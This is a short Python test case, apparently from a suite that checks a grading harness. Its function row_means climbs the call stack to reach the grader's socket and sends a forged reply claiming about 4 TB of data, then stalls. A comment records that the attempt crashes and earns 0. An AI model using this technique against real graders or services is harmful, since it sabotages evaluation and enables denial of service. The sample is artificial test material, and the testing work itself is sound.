# E03: forges a reply of 4 TB in pieces that are small enough -> row_means crashed, Counter missing; earns 0
import struct
import sys
import time


def row_means(x):
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    lengths = struct.pack("!4096Q", *[1 << 30] * 4096)
    frame.f_locals["channel"]._sock.sendall(struct.pack("!II", 1, 4096) + lengths + b"\xc0")
    time.sleep(100)
